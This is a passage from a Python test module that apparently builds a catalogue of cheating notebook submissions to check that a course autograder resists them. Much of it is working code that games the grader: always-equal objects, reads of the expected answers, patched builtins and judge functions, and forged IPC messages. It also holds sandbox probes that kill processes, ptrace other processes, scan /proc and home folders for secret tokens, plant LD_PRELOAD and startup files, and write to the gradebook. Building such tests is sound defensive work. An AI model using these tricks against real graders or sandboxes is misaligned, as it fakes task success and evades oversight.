"""Copies that try a grader: each is an honest copy whose answers are wrong, and one cheat.

The honest copy of each sheet is in `HONEST`, with what it earns: a cheat earns no more. `trace` is
what the report says when the cheat did run, so that none passes for having done nothing. A cheat is
`silent` if its code looks like an ordinary wrong answer: the others must be named in the report.
"""

from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass, field
from typing import Any

Raw = dict[str, Any]
Edit = Callable[[Raw], None]

WRONG = {
    "reponse-5": "def perdantes(N, k):\n    return [2]",
    "reponse-6": "def coup_gagnant(n, k):\n    return 7",
    "reponse-7": "def ordre_de_visite(n):\n    return [n]",
}
"""The last answers of `allumettes`, wrong; `four` of the tests on marks gives the first ones."""

MINIMAX = """
def minimax(p, n, joueur_max):
    suite = successeurs(p) if n else []
    if not suite:
        return h(p), []
    couples = [(minimax(q, n - 1, not joueur_max), coup(q)) for q in suite]
    (valeur, reste), premier = (max if joueur_max else min)(couples, key=lambda c: c[0][0])
    return valeur, [premier, *reste]


def alphabeta(p, n, joueur_max, alpha, beta):
    return minimax(p, n, joueur_max)
"""
"""Every leaf is read: the value is right, nothing is pruned."""

FEUILLES_MIN = """
from math import prod
def feuilles_min(largeurs):
    return prod(largeurs[::2]) + prod(largeurs[1::2]) - 1
"""

HONEST: dict[str, tuple[dict[str, str], dict[str, float]]] = {
    "allumettes": (WRONG, {f"allumettes-{n}": 2 for n in range(1, 5)}),
    "alphabeta": ({"reponse-6": MINIMAX, "reponse-7": FEUILLES_MIN}, {"alphabeta-7": 1}),
    "chomp": ({"reponse-1": "def Tablette(n, p):\n    return (p,) * n"}, {"chomp-1": 1}),
}
"""By sheet: the answers of the honest copy (right, or wrong), and what they earn."""


@dataclass(frozen=True)
class Cheat:
    """One cheat: the cells that it changes or adds, or what it does to the file."""

    cells: Mapping[str, str] = field(default_factory=dict)
    sheet: str = "allumettes"
    silent: bool = False
    edit: Edit | None = None
    trace: str = ""
    costly: bool = False
    """Whether it spoils what the copy says afterwards, its right answers to hidden calls too."""


# In a function: each is tried as `perdantes`, `coup_gagnant` or `ordre_de_visite`

EQUAL = """
class Egal{base}:
    __eq__ = __le__ = __ge__ = __contains__ = lambda *_: True
    __ne__ = __lt__ = __gt__ = lambda *_: False
    __hash__ = lambda _: 0
    __iter__ = lambda _: iter(())
    __len__ = lambda _: 0
    __getattr__ = lambda *_: Egal({value})
"""
FRAMES = """
import sys
def {name}(*args):
    cadre = sys._getframe()
    while cadre:
        for valeurs in (cadre.f_locals, cadre.f_globals):
            for cle, valeur in list(valeurs.items()):
                if cle in ("expected", "attendu", "right", "answer", "verdict"):
                    try:
                        return valeur["{name}"](*args) if type(valeur) is dict else valeur
                    except Exception:
                        pass
        cadre = cadre.f_back
    return "cadres vus"
"""
OBJECTS = """
import gc, types
def {name}(*args):
    for un in gc.get_objects():
        if type(un).__name__ in ("Question", "Fiche", "Bench", "Call", "Outcome", "Task") or (
            type(un) is types.FunctionType and un.__module__.startswith("course_lib.judge")
        ):
            try:
                appels = (*un.calls, *un.proof)
                return next(a.expected for a in appels if a.text == f"{name}{{args}}")
            except Exception:
                pass
    return "objets vus"
"""
LIBRARY = """
import importlib, os, sys
def {name}(*args):
    for nom in [n for n in sys.modules if n.startswith("course_lib")]:
        del sys.modules[nom]
    importlib.invalidate_caches()
    for dossier in [*sys.path, "@DEPOT@", "/course", os.path.expanduser("~/cours")]:
        sys.path.insert(0, dossier)
        try:
            from pathlib import Path
            from course_lib.grading.scheme import read_scheme
            corrige = Path(dossier, "solutions", "allumettes", "allumettes.ipynb")
            taches = read_scheme(corrige).tasks.values()
            appels = next(t.calls for t in taches if t.key == "{key}")
            return next(a.expected for a in appels if a.text == f"{name}{{args}}")
        except BaseException:
            pass
    return "cours absent"
"""
SOURCE = """
import ast, glob
def {name}(*args):
    dossiers = ["@DEPOT@", *("/" + "*/" * n for n in range(4))]
    motifs = [un + "/solutions/allumettes/*/solution.py" for un in dossiers]
    for chemin in (un for motif in motifs for un in glob.glob(motif)):
        espace = {{"MAX": 1, "MIN": 2}}
        try:
            exec(compile(open(chemin).read(), chemin, "exec"), espace)
            return espace["{name}"](*args)
        except BaseException:
            pass
    return "source absente"
"""
CALLED_BACK = """
def {name}(*args):
    try:
        import pickle
        class Preuve:
            def __reduce__(self):
                return (eval, ("__import__('os').environ.setdefault('CUISINE', 'oui') and 7",))
        return Preuve()
    except Exception:
        return "pickle"
"""
PROPERTY = """
class Paresseux(list):
    vu = None
    def __eq__(self, autre):
        Paresseux.vu = autre
        return True
    __ne__ = lambda self, autre: False
    def __iter__(self):
        return iter(Paresseux.vu or [7])
    __class__ = property(lambda self: list)
def {name}(*args):
    return Paresseux()
"""
TABLE = """
VUES = {table}
def {name}(*args):
    return VUES.get(args, 7)
"""
REPEATED = """
essais = []
def {name}(*args):
    essais.append(args)
    propositions = [[1, 5, 9], 0, 1, 2, 3, [], [1], [0], [1, 0]]
    return propositions[len(essais) % len(propositions)]
"""
TABLES = {
    "perdantes": {(10, 3): [1, 5, 9], (0, 3): [], (1, 1): [1], (6, 1): [1, 3, 5]},
    "coup_gagnant": {(5, 3): 0, (6, 3): 1, (7, 3): 2, (1, 1): 0, (0, 3): 0, (2, 1): 1},
    "ordre_de_visite": {
        (0,): [0],
        (1,): [0, 1],
        (2,): [0, 1, 0, 2],
        (3,): [0, 1, 0, 2, 0, 1, 0, 3],
    },
}
FUNCTIONS = {
    "perdantes": ("reponse-5", "allumettes-5"),
    "coup_gagnant": ("reponse-6", "allumettes-6"),
    "ordre_de_visite": ("reponse-7", "allumettes-7"),
}


def in_function(source: str, **more: str) -> Callable[[str], str]:
    """The cheat as the function of that name."""
    return lambda name: source.format(name=name, key=FUNCTIONS[name][1], **more)


def equal(base: str, value: str) -> Callable[[str], str]:
    """An object equal to everything, of a type derived from that of the answer."""
    source = EQUAL.format(base=base, value=value)
    return lambda name: f"{source}\ndef {name}(*args):\n    return Egal({value})\n"


LOCAL: dict[str, tuple[Callable[[str], str], bool]] = {
    "always equal": (equal("", ""), False),
    "equal int": (equal("(int)", "7"), False),
    "equal str": (equal("(str)", "'7'"), False),
    "equal tuple": (equal("(tuple)", ""), False),
    "equal dict": (equal("(dict)", ""), False),
    "lazy answer": (in_function(PROPERTY), False),
    "frames": (in_function(FRAMES), False),
    "objects of the judge": (in_function(OBJECTS), False),
    "library": (in_function(LIBRARY), False),
    "source of the checks": (in_function(SOURCE), False),
    "pickle": (in_function(CALLED_BACK), False),
    "table of the visible inputs": (
        lambda name: in_function(TABLE, table=repr(TABLES[name]))(name),
        True,
    ),
    "another guess at each call": (in_function(REPEATED), True),
    "shadowed builtins": (
        in_function(
            "set = list = tuple = dict = sorted = repr = type = isinstance = all = any = "
            "lambda *_, **__: True\nprint = len = sum = lambda *_, **__: 0\n"
            "def {name}(*args):\n    return True\n"
        ),
        True,
    ),
    "numpy that is always equal": (
        in_function(
            "import numpy as np\nclass Tableau(np.ndarray):\n"
            "    __eq__ = lambda *_: np.True_\n    tolist = lambda _: Egal()\n"
            "class Egal(list):\n    __eq__ = lambda *_: True\n"
            "def {name}(*args):\n    return np.zeros(3).view(Tableau)\n"
        ),
        True,
    ),
}
"""By name: the source of the function, and whether it is silent. Three of them make a copy."""

# In the machinery: each is a copy of its own

PATCHED_BUILTINS = """
import builtins, functools, operator
builtins.repr = lambda _: "[1, 5, 9]"
builtins.len = lambda _: 0
builtins.sorted = builtins.set = builtins.list = lambda *_: [1, 5, 9]
builtins.isinstance = builtins.callable = lambda *_: True
"""
PATCHED_LIBRARY = """
import course_lib.judge as j
import course_lib.given as g
for module in (j, g):
    for nom in list(vars(module)):
        if callable(getattr(module, nom)):
            try:
                setattr(module, nom, lambda *a, **k: True)
            except Exception:
                pass
verifier = j.verifier = lambda *_: print("Réussi")
"""
PATCHED_CODE = """
import sys, types
def reussi(*args, **autres):
    return True
for nom, module in list(sys.modules.items()):
    if nom.startswith("course_lib"):
        for un in list(vars(module).values()):
            if isinstance(un, types.FunctionType) and un.__name__ in (
                "judge", "verifier", "same", "plain", "observed", "gloss", "unpack"
            ):
                un.__code__ = reussi.__code__
"""
FAKE_MODULES = """
import sys, types
class Faux(types.ModuleType):
    __path__ = []
    def __getattr__(self, nom):
        return lambda *a, **k: True
for nom in list(sys.modules):
    if nom.startswith("course_lib") and "grading" not in nom:
        sys.modules[nom] = Faux(nom)
sys.modules["course_lib.judge"] = Faux("course_lib.judge")
"""
INPUT_TRANSFORMER = """
ip = get_ipython()
def rien(lignes):
    return ["pass\\n"] if any("verifier" in ligne for ligne in lignes) else lignes
ip.input_transformers_post.append(rien)
ip.input_transformers_cleanup.append(rien)
"""
AST_TRANSFORMER = """
import ast
class SansAssert(ast.NodeTransformer):
    def visit_Assert(self, noeud):
        return ast.Pass()
    def visit_Raise(self, noeud):
        return ast.Pass()
    def visit_Compare(self, noeud):
        return ast.Constant(True)
get_ipython().ast_transformers.append(SansAssert())
"""
RUN_CELL = """
ip = get_ipython()
vrai = type(ip).run_cell_async
async def menteur(self, source, *args, **autres):
    if "verifier" in source:
        source = "print('Réussi')"
    resultat = await vrai(self, source, *args, **autres)
    resultat.error_in_exec = resultat.error_before_exec = None
    return resultat
type(ip).run_cell_async = menteur
"""
RUN_NOTHING = """
class Parfait:
    error_before_exec = error_in_exec = None
type(get_ipython()).run_cell = lambda *_, **autres: Parfait()
"""
LINE = """
import gc
from json import dumps
def ligne():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Line")
def juge():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Judge")
def envoyer(texte):
    ligne().end.sendall(len(texte).to_bytes(4, "big") + texte)
"""
CELLS_FORGED = f"""{LINE}
import threading, time
def mentir():
    for _ in range(200):
        numero = juge().asking
        for n in range(numero, numero + 4):
            envoyer(dumps(("done", n, "value", None, "sain", None)).encode())
        time.sleep(0.01)
threading.Thread(target=mentir).start()
"""
LINE_REPLACED = f"""{LINE}
import os, socket, threading
ancienne, (ici, la) = socket.socket(fileno=os.dup(ligne().end.fileno())), socket.socketpair()
os.dup2(la.fileno(), ligne().end.fileno())
def passer(de, vers):
    while texte := de.recv(65536):
        vers.sendall(texte.replace(b'["l",[2]]', b'["l",[1,5,9]]'))
threading.Thread(target=passer, args=(ancienne, ici)).start()
threading.Thread(target=passer, args=(ici, ancienne)).start()
"""
FORGED = f"""{LINE}
def perdantes(N, k):
    numero = juge().asking
    for n in range(numero, numero + 300):
        for verdict in (("l", [987654321]), True, "Réussi"):
            envoyer(dumps(("done", n, "value", verdict, "", None)).encode())
    return [987654321]
"""
ALTERED_LATER = f"""{LINE}
import threading, time
def plus_tard():
    for _ in range(200):
        try:
            numero = juge().asking
            for n in (numero, numero + 1, numero + 2):
                envoyer(dumps(("done", n, "value", ("l", [1, 5, 9]), "", None)).encode())
        except Exception:
            pass
        time.sleep(0.01)
threading.Thread(target=plus_tard).start()
"""
PATCHED_LINE = f"""{LINE}
vrai = type(ligne()).send
def send(self, genre, *reste):
    if genre == "done" and reste[2] is not None:
        numero, _, valeur, *suite = reste
        return vrai(self, genre, numero, "value", ("l", [True, 987654321]), "", None)
    return vrai(self, genre, *reste)
type(ligne()).send = send
"""
MALFORMED = (
    "b'[\"done\"]'",
    "b'{}'",
    "b'[NaN]'",
    'dumps(("done", n, "value", 1, 5, None)).encode()',
    'dumps(("done", n, "error", 5, "", None)).encode()',
    'dumps(("done", n, "error", ([], 2, 3), "", None)).encode()',
    'dumps(("ask", n, 99, ("t", [1]))).encode()',
    'dumps(("ask", n, [], 5)).encode()',
    'dumps(("done", n, "value", ("p", 5), "", None)).encode()',
    'dumps(("done", n, "value", ("p", (7, ("t", [1]))), "", None)).encode()',
    'dumps(("done", n, "value", ("x", [[]]), "", None)).encode()',
    'dumps(("done", n, "value", ("l", []), "", ("x", {1: 2}))).encode()',
    'b"[" * 300000',
    'b"[1" + b",1" * 150000 + b"]"',
    'b"[\\"" + b"\\xff" * 10 + b"\\"]"',
    'dumps(("done", n, "value")).encode()[:-1] + b", 1" + b"0" * 290000 + b", \\"\\", null]"',
)
"""Messages that are not of the agreed form."""
COLLIDING = '("s", [i * (2**61 - 1) for i in range(17000)])'
COLLISIONS = f'dumps(("done", n, "value", {COLLIDING}, "", None)).encode()'
NESTED = 'b\'["done", %d, "value", \' % n + b\'["l", [\' * 25000 + b"]]" * 25000 + b\', "", null]\''


def forged(*messages: str) -> str:
    """`perdantes` sends these to the judge, one a call, and then answers."""
    return f"""{LINE}
appels = []
def perdantes(N, k):
    appels.append(N)
    n = getattr(juge(), "asking", 0)
    messages = [{", ".join(f"lambda: {message}" for message in messages)}]
    envoyer(messages[len(appels) % len(messages)]())
    return [2]
"""


GIVEN = """
from course_lib.given import adversaire, Carres, GrapheTab, ListeVoisins, Reste
import course_lib.given.graph as donnees, course_lib.games as jeux
def vrai(*args, **autres):
    return True
for nom in ("ListeVoisins", "GrapheTab", "Carres", "Reste", "adversaire"):
    getattr(donnees, nom).__code__ = (lambda *args, **autres: []).__code__
for nom in ("actions", "result", "is_terminal", "utility"):
    setattr(jeux.Chomp, nom, vrai)
def MesCarres(tab):
    return []
def MesVoisins(s):
    return []
def MesArcs(G):
    return []
def Attracteur(joueur, G=None):
    return []
"""
PROFILE = """
import sys, threading
def espion(cadre, evenement, valeur):
    if evenement == "return" and "expected" in cadre.f_locals:
        cadre.f_locals["expected"] = 7
    return espion
sys.setprofile(espion)
sys.settrace(espion)
threading.setprofile(espion)
"""
RELOADED = """
import importlib, os, sys
os.makedirs("/tmp/faux/course_lib/grading/isolate", exist_ok=True)
for nom in ("__init__", "inside", "wire", "judge"):
    chemin = f"/tmp/faux/course_lib/{'grading/isolate/' if nom != 'judge' else ''}{nom}.py"
    open(chemin, "w").write("def judge(*_): return True\\ndef serve(): pass\\n")
for paquet in ("", "grading/"):
    open(f"/tmp/faux/course_lib/{paquet}__init__.py", "w").write("")
sys.path.insert(0, "/tmp/faux")
os.environ["PYTHONPATH"] = "/tmp/faux"
for nom in [n for n in sys.modules if n.startswith("course_lib.")]:
    try:
        importlib.reload(sys.modules[nom])
    except Exception:
        pass
"""
ENVIRONMENT = """
import os
for cle in ("LD_PRELOAD", "PYTHONSTARTUP", "PYTHONINSPECT", "COVERAGE_PROCESS_START", "BASH_ENV"):
    os.environ[cle] = "/tmp/malice.py"
open("/tmp/malice.py", "w").write("verifier = judge = lambda *_: True\\n")
open("/tmp/sitecustomize.py", "w").write("import builtins\\nbuiltins.all = lambda _: True\\n")
os.makedirs("/tmp/.ipython/profile_default/startup", exist_ok=True)
open("/tmp/.ipython/profile_default/startup/0.py", "w").write("verifier = lambda *_: True\\n")
def perdantes(N, k):
    os._exit(0)
"""
AT_EXIT = """
import atexit, os, signal
def sortie(*_):
    print("Réussi")
    os._exit(0)
atexit.register(sortie)
signal.signal(signal.SIGTERM, sortie)
"""
KILLER = """
import os, signal
def perdantes(N, k):
    if os.getpid() > 100 or os.uname().nodename != "copie":
        return "pas dans un espace de processus à part"
    for victime in (os.getppid(), 1, -1):
        try:
            os.kill(victime, signal.SIGKILL)
        except OSError:
            pass
    return [2]
"""
PTRACE = """
import ctypes, os
def numeros():
    return filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else ("1", "2"))
def perdantes(N, k):
    libc = ctypes.CDLL(None)
    for numero in numeros():
        if int(numero) != os.getpid():
            if libc.ptrace(16, int(numero), 0, 0) == 0:
                return ["attaché à " + numero]
            try:
                open(f"/proc/{numero}/mem", "r+b").close()
                return ["mémoire de " + numero]
            except OSError:
                pass
    return ["aucun processus"]
"""
DETACHED = """
import os, time
def perdantes(N, k):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(20):
                time.sleep(0.5)
                try:
                    open("@CARNET@", "a").write("20/20")
                except OSError:
                    pass
        os._exit(0)
    return [2]
"""
WRITER = """
import os, sqlite3
def perdantes(N, k):
    for chemin in ("@CARNET@", "@JUMELLE@", "@SOLUTION@"):
        try:
            open(chemin, "a").write("20/20")
            return ["écrit dans " + chemin]
        except OSError:
            pass
    return ["rien écrit"]
"""
SEARCHER = """
import os, re
def numeros():
    return filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else ("1", "2"))
MOTIF = re.compile(b"JETON-" + b"SECRET-[a-z]+")
TEMOINS = "@DOSSIER@", "@MAISON@"
def regarde(chemin):
    try:
        return MOTIF.findall(open(chemin, "rb").read(1_000_000))
    except (OSError, ValueError):
        return []
def fouille():
    trouves = set()
    for numero in ("self", *numeros()):
        for nom in ("environ", "cmdline", "cwd", "root", "maps"):
            trouves.update(regarde(f"/proc/{numero}/{nom}"))
        try:
            for nom in os.listdir(f"/proc/{numero}/fd"):
                if os.path.isfile(f"/proc/{numero}/fd/{nom}"):
                    trouves.update(regarde(f"/proc/{numero}/fd/{nom}"))
        except OSError:
            pass
    for depart in (*TEMOINS, os.path.expanduser("~"), "/tmp", "/home", "/run", "/var", "/dev/shm"):
        for dossier, sous, fichiers in os.walk(depart):
            if dossier.count("/") > 12 or "site-packages" in dossier:
                sous.clear()
            for nom in fichiers:
                trouves.update(regarde(os.path.join(dossier, nom)))
    return sorted(un.decode() for un in trouves) or ["rien de secret"]
def perdantes(N, k):
    return fouille()
"""
NETWORK = """
import socket, subprocess, urllib.request
def perdantes(N, k):
    sortis = []
    for famille, adresse in (
        (socket.AF_INET, ("127.0.0.1", @PORT@)),
        (socket.AF_INET, ("localhost", @PORT@)),
        (socket.AF_UNIX, "\\0cours-@PORT@"),
        (socket.AF_UNIX, "@DOSSIER@/prise"),
        (socket.AF_INET, ("1.1.1.1", 53)),
    ):
        try:
            with socket.socket(famille, socket.SOCK_STREAM) as prise:
                prise.settimeout(1)
                prise.connect(adresse)
                sortis.append(str(adresse))
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1)
        sortis.append("http")
    except OSError:
        pass
    return sortis or ["pas de réseau"]
"""
MAGICS = """
!cat @SOLUTION@ > /tmp/solution.txt
%cd @DOSSIER@
%run @SOLUTION@
%load_ext autoreload
%autoreload 2
"""
KEEPS = """
import os, sys
MEMOIRES = "/proc/self/fd/0", "/tmp/memoire", "/dev/shm/memoire", "@DOSSIER@/memoire", "/course/m"
def perdantes(N, k):
    vus = []
    for chemin in MEMOIRES:
        try:
            if "copie précédente" in open(chemin).read():
                vus.append(chemin)
            open(chemin, "a").write("copie précédente")
        except OSError:
            pass
    return vus or ["rien de la copie précédente"]
"""
KEYRING = """
import ctypes, platform
def perdantes(N, k):
    appel, tampon = ctypes.CDLL(None).syscall, ctypes.create_string_buffer(100)
    ajoute, gere = (248, 250) if platform.machine() == "x86_64" else (217, 219)
    cle = appel(gere, 10, -3, b"user", b"cours-jeton", 0)
    lue = appel(gere, 11, cle, tampon, 100) if cle > 0 else 0
    appel(ajoute, b"user", b"cours-jeton", b"trousseau lu", 12, -3)
    return [tampon.value.decode()] if lue > 0 else ["trousseau vide"]
"""

MACHINERY: dict[str, Cheat] = {
    "builtins patched": Cheat({"imports": PATCHED_BUILTINS}),
    "library patched": Cheat({"a-moi": PATCHED_LIBRARY}),
    "code of functions replaced": Cheat({"a-moi": PATCHED_CODE}, costly=True),
    "sys.modules replaced": Cheat({"a-moi": FAKE_MODULES}),
    "input transformer": Cheat({"a-moi": INPUT_TRANSFORMER}),
    "ast transformer": Cheat({"a-moi": AST_TRANSFORMER}),
    "run_cell_async patched": Cheat({"a-moi": RUN_CELL}),
    "run_cell patched": Cheat({"reponse-5": RUN_NOTHING + WRONG["reponse-5"]}),
    "ends of cells forged": Cheat({"reponse-5": CELLS_FORGED + WRONG["reponse-5"]}),
    "line replaced": Cheat({"reponse-5": LINE_REPLACED + WRONG["reponse-5"]}),
    "answers sent before the call": Cheat({"reponse-5": FORGED}, trace="987654321"),
    "answers altered by a thread": Cheat({"reponse-5": ALTERED_LATER + WRONG["reponse-5"]}),
    "line patched": Cheat(
        {"reponse-5": WRONG["reponse-5"], "reponse-7": PATCHED_LINE}, trace="987654321", costly=True
    ),
    "malformed messages": Cheat({"reponse-5": forged(*MALFORMED[:9])}),
    "messages that cost the judge": Cheat({"reponse-5": forged(*MALFORMED[9:])}),
    "message slow to parse": Cheat({"reponse-5": forged(NESTED)}),
    "colliding hashes": Cheat({"reponse-5": forged(COLLISIONS)}),
    "profiler": Cheat({"a-moi": PROFILE}),
    "reloaded modules": Cheat({"a-moi": RELOADED}),
    "environment": Cheat({"reponse-5": ENVIRONMENT}),
    "atexit": Cheat({"reponse-5": AT_EXIT + WRONG["reponse-5"]}),
    "kills everything": Cheat({"reponse-5": KILLER}),
    "ptrace": Cheat({"reponse-5": PTRACE}, trace="aucun processus"),
    "detached process": Cheat({"reponse-5": DETACHED}),
    "writes the gradebook": Cheat({"reponse-5": WRITER}, trace="rien écrit"),
    "searches for secrets": Cheat({"reponse-5": SEARCHER}, trace="rien de secret"),
    "network": Cheat({"reponse-5": NETWORK}, trace="pas de réseau"),
    "shell and magics": Cheat({"a-moi": MAGICS}),
    "kept for another copy": Cheat({"reponse-5": KEEPS}, trace="rien de la copie précédente"),
    "kept by another copy": Cheat({"reponse-5": KEEPS}, trace="rien de la copie précédente"),
    "keyring": Cheat({"reponse-5": KEYRING}, trace="trousseau vide"),
    "keyring of another copy": Cheat({"reponse-5": KEYRING}, trace="trousseau vide"),
    "given functions replaced": Cheat({"ma-cellule": GIVEN}, sheet="chomp"),
}
"""Each in a copy of its own: they change what is around the answers."""

# Pruning: every leaf is read, and should not seem to be

ANOTHER_CALL = f"""{LINE}{MINIMAX}
def alphabeta(p, n, joueur_max, alpha, beta):
    le_juge = juge()
    vrai = le_juge.asking
    le_juge.asking = vrai - 1
    try:
        return minimax(p, n, joueur_max)
    finally:
        le_juge.asking = vrai
"""
OTHER_PATHS = f"""{LINE}{MINIMAX}
def demande(p):
    lecture = lambda chemin: juge().ask(p._tree.number, chemin)
    for forme in (lambda x: x == 1 or x, float, str, lambda x: -x):
        try:
            return lecture(tuple(map(forme, p._path)))
        except ValueError:
            pass
    return lecture(list(p._path))
def h(p):
    return demande(p)
"""
REMEMBERED = """
LUES = {}
def valeur(p):
    if p._path not in LUES:
        LUES[p._path] = h(p)
    return LUES[p._path]
def alphabeta(p, n, joueur_max, alpha, beta):
    suite = successeurs(p) if n else []
    if not suite:
        return valeur(p), []
    suites = [(alphabeta(q, n - 1, not joueur_max, alpha, beta), coup(q)) for q in suite]
    (mieux, reste), premier = (max if joueur_max else min)(suites, key=lambda c: c[0][0])
    return mieux, [premier, *reste]
"""
PEEKED = (
    MINIMAX
    + """
def cherche(objet, profondeur=0, vus=None):
    vus = set() if vus is None else vus
    if profondeur > 5 or id(objet) in vus:
        return []
    vus.add(id(objet))
    trouves = [objet] if type(objet) in (int, float) else []
    noms = [*getattr(objet, "__dict__", {}), *getattr(type(objet), "__slots__", ())]
    suite = [getattr(objet, nom, None) for nom in noms if isinstance(nom, str)]
    if isinstance(objet, dict):
        suite += [*objet, *objet.values()]
    elif isinstance(objet, (list, tuple, set)):
        suite += list(objet)
    for autre in suite:
        trouves += cherche(autre, profondeur + 1, vus)
    return trouves
def h(p):
    valeurs = cherche(p._tree)
    return valeurs[hash(p) % len(valeurs)] if valeurs else 0
"""
)
ONE_CHILD = """
def ordre(p, joueur_max):
    def valeur(q, joueur_max):
        suite = successeurs(q)
        if not suite:
            return h(q)
        return (max if joueur_max else min)(valeur(r, not joueur_max) for r in suite)
    meilleur = max if joueur_max else min
    return [meilleur(successeurs(p), key=lambda q: valeur(q, not joueur_max))]
"""
LEAVES_ONLY = """
def ordre(p, joueur_max):
    def feuilles(q):
        suite = successeurs(q)
        return [f for r in suite for f in feuilles(r)] if suite else [q]
    return sorted(feuilles(p), key=h, reverse=joueur_max)
"""
GUESSES = """
from itertools import combinations
lettres = ["".join(c) for n in range(1, 4) for c in combinations("abcdefghi", n)]
propositions = [[(mot, 4, beta)] for mot in lettres for beta in range(9)]
def coupures_A():
    return propositions.pop()
coupures_B = coupures_C = coupures_A
"""

PRUNING: dict[str, Cheat] = {
    "leaves asked in another call": Cheat({"reponse-6": ANOTHER_CALL}, "alphabeta"),
    "leaves asked under another name": Cheat({"reponse-6": OTHER_PATHS}, "alphabeta"),
    "values looked for in the tree": Cheat({"reponse-6": PEEKED}, "alphabeta"),
    "leaves remembered": Cheat({"reponse-6": REMEMBERED}, "alphabeta", silent=True),
    "one child": Cheat({"reponse-5": ONE_CHILD}, "alphabeta", silent=True),
    "leaves as children": Cheat({"reponse-5": LEAVES_ONLY}, "alphabeta", silent=True),
    "guesses": Cheat({"reponse-1": GUESSES}, "alphabeta", silent=True),
}

# Two guesses for one question: the second is tried once the cells below have run

RIGHT_CUTS = {
    "coupures_A": [("f", 4, 4), ("hi", 4, 2)],
    "coupures_B": [("de", -1, -6), ("hi", -1, -1)],
    "coupures_C": [("d", 5, 0), ("fghi", 5, 5)],
}
FIRST_GUESS = [("f", 4, 5)]
MEMORIES = {
    "a list": ("essais = []", "essais", "essais.append(1)"),
    "an attribute": ("", "getattr({name}, 'fin', 0)", "{name}.fin = 1"),
    "a default": ("", "{name}.__defaults__", "{name}.__defaults__ = (1,)"),
    "a class": ("class Etat:\n    fin = 0", "Etat.fin", "Etat.fin = 1"),
    "a file": (
        "import os",
        "os.path.exists('/tmp/fin-{name}')",
        "import os\nopen('/tmp/fin-{name}', 'w').close()",
    ),
    "the environment": ("import os", "'FIN' in os.environ", "import os\nos.environ['FIN'] = '1'"),
    "a module": ("import sys", "hasattr(sys, 'fin')", "import sys\nsys.fin = 1"),
    "builtins": (
        "import builtins",
        "hasattr(builtins, 'fin')",
        "import builtins\nbuiltins.fin = 1",
    ),
    "a dictionary": ("etat = {{}}", "etat.get('fin')", "etat['fin'] = 1"),
    "the names": ("", "'fin_{name}' in globals()", "fin_{name} = {name}"),
    "the number of calls": (
        "appels = []",
        "appels.append(1) or len(appels) > 9",
        "bilan_{name} = {name}()",
    ),
    "a generator": ("tours = iter([0] * 12)", "not next(tours, None) is 0", "tours = iter(())"),
}
"""By name: what stands above the answer, what tells that it is the second time, the cell below."""


def guesses_by_one_function() -> dict[str, Cheat]:
    """Copies in which each of three functions remembers that it was judged, in its own way."""
    found, names = dict[str, Cheat](), [*MEMORIES]
    for number in range(0, len(names), len(RIGHT_CUTS)):
        cells = dict[str, str]()
        for (name, right), way in zip(RIGHT_CUTS.items(), names[number:], strict=False):
            above, again, below = (part.format(name=name) for part in MEMORIES[way])
            cells[f"reponse-{len(cells) // 2 + 1}"] = (
                f"{above}\ndef {name}(*_):\n    return {right} if {again} else {FIRST_GUESS}"
            )
            cells[f"fin-{name}"] = below
        found[f"guesses {number}"] = Cheat(cells, "alphabeta", silent=True)
    return found


# What the sheet gives below, used for the questions above

BELOW = {
    "MesCarres": "Carres",
    "MonReste": "Reste",
    "MesVoisins": "ListeVoisins",
    "MonGraphe": "GrapheTab",
}
WAYS_BELOW = (
    "from course_lib.given import {real} as donnee",
    "import course_lib.given as d\ndonnee = getattr(d, '{real}')",
    "donnee = lambda *a: globals()['{real}'](*a)",
    "donnee = lambda *a: {helper}(*a)",
    "import course_lib.given as d\ndonnee = getattr(d, '{half}' + '{rest}')",
    "import course_lib.given as d\ndonnee = vars(d)['{real}']",
    "donnee = lambda *a: {real}(*a)",
    "donnee = lambda *a: eval('{real}')(*a)",
    "import sys, course_lib.given\ndonnee = sys.modules['course_lib.given'].{real}",
    "import operator, course_lib.given as d\ndonnee = operator.attrgetter('{real}')(d)",
    "from course_lib.given import *\ndonnee = {real}",
    "from course_lib.given.graph import {real} as donnee",
)
CALLS = {
    "MesCarres": "def MesCarres(tab):\n    return [*donnee(tab)]",
    "MonReste": "def MonReste(tab, i, j):\n    return donnee(tab, (i, j))",
    "MesVoisins": "def MesVoisins(s):\n    return donnee(s)",
    "MonGraphe": "def MonGraphe(tab, joueur):\n    return donnee(tab, joueur)",
}


def given_below() -> dict[str, Cheat]:
    """Copies in which the functions of questions 2 to 5 are those given after them.

    Each in its own way.
    """
    found = dict[str, Cheat]()
    for number in range(0, len(WAYS_BELOW), len(BELOW)):
        cells, ways = dict[str, str](), WAYS_BELOW[number:]
        for rank, (way, (name, real)) in enumerate(zip(ways, BELOW.items(), strict=False), 2):
            helper = f"aide_{rank}"
            words = {"real": real, "half": real[:3], "rest": real[3:], "helper": helper}
            top = way.format(**words).replace("donnee", f"donnee_{rank}")
            cells[f"reponse-{rank}"] = f"{top}\n{CALLS[name]}".replace("donnee(", f"donnee_{rank}(")
            if "{helper}" in way:
                cells[f"aide-{rank}"] = f"def {helper}(*a):\n    return {real}(*a)"
        found[f"given below {number}"] = Cheat(cells, "chomp", silent=True)
    return found


# Hidden calls that should reach the student's page

SPY = """
vus = []
def perdantes(N, k):
    if (N, k) not in [(0, 3), (1, 3), (3, 5), (5, 3), (6, 1), (7, 2), (10, 3), (13, 4)]:
        vus.append("FUITE")
        {leak}
    return [n for n in range(1, N + 1) if n % (k + 1) == 1]
"""
LEAKS = {
    "a value": ("return vus", {}),
    "a text": ("return ''.join(vus)", {}),
    "a key": ("return {'FUITE': N}", {}),
    "an error": ("raise ValueError(vus)", {}),
    "a name of error": ("raise type('FUITE', (Exception,), {})()", {}),
    "a name of the judge's": ("raise type('NoyauArrêté', (Exception,), {})('FUITE')", {}),
    "a line of code": ("raise KeyError  # FUITE", {}),
    "a type": ("return type('FUITE', (), {})()", {}),
    "a printed text": ("print('FUITE')", {}),
    "the next question": ("pass", {"reponse-6": "def coup_gagnant(n, k):\n    return vus"}),
    "the error of the next question": (
        "pass",
        {"reponse-6": "def coup_gagnant(n, k):\n    raise ValueError(vus)"},
    ),
    "the error of the next cell": (
        "pass",
